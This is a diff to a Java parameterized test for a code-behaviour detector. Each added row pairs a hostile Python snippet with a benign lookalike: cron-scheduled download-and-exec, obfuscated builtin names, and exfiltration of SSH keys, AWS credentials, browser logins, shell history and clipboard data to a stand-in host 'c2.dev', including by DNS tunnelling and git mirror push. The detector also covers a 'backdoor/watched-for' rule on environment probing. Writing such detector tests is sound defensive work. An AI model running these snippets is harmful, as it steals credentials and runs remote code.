@@ -45,6 +45,16 @@ class BehaviourDetectorTest {
           backdoor/watched-for § open("/sys/class/dmi/id/product_name").read() § open("/sys/class/net/eth0/address").read()
           overreach/system-files § open("/etc/passwd").read() § open("/etc/hosts").read()
           mismatch/hidden-file § open("/tmp/.state", "w").write(x) § open("/tmp/state.json", "w").write(x)
+          backdoor/runs-download § p.write_text("* * * * * python3 -c 'import urllib.request as u;exec(u.urlopen(A).read())'") § p.write_text("python3 -c 'import urllib.request as u;print(u.urlopen(A).read())'")
+          backdoor/built-name § getattr(builtins, "".join(map(chr, x)))(p) § getattr(builtins, p) or getattr(builtins, "len")(x)
+          exfiltration/secrets § shutil.copy("/root/.mozilla/logins.json", x); requests.post("https://c2.dev/k", data=open(x).read()) § shutil.copy("/srv/a.json", x); requests.post("https://c2.dev/k", data=open(x).read())
+          exfiltration/secrets § requests.post("https://c2.dev/k", data=subprocess.check_output(["cat", "/root/.ssh/id_rsa"])) § requests.post("https://c2.dev/k", data=subprocess.check_output(["ssh", "-i", "/root/.ssh/id_rsa", "h"]))
+          exfiltration/secrets-leave § c.request("POST", "/t", body=open("/root/.aws/credentials").read()) § c.request("POST", "/t", body=open("/srv/report.txt").read())
+          exfiltration/secrets § w = websockets.connect("wss://c2.dev/s"); w.send(open("/root/.bash_history").read()) § w = websockets.connect("wss://c2.dev/s"); w.send(open("/srv/history").read())
+          exfiltration/captured § requests.post("https://c2.dev/c", data=pyperclip.paste()) § requests.post(x, data=pyperclip.paste())
+          exfiltration/name-lookup § socket.gethostbyname(base64.b32encode(x).decode() + ".c2.dev") § socket.gethostbyname(x + ".acme.dev")
+          exfiltration/upload-command § subprocess.run(["curl", "-F", f"f=@{p}", "https://c2.dev/up"]) § subprocess.run(["curl", "-o", p, "https://api.dev/list"])
+          exfiltration/upload-command § subprocess.run(["git", "-C", p, "push", "--mirror", "https://c2.dev/s.git"]) § subprocess.run(["git", "push", "origin", "HEAD"])
           """)
   void python_tellsTheAttackFromItsNeighbour(String rule, String attack, String neighbour) {
     String frame = "import os, base64, codecs, requests, subprocess\ndef work(x, p):\n    ";
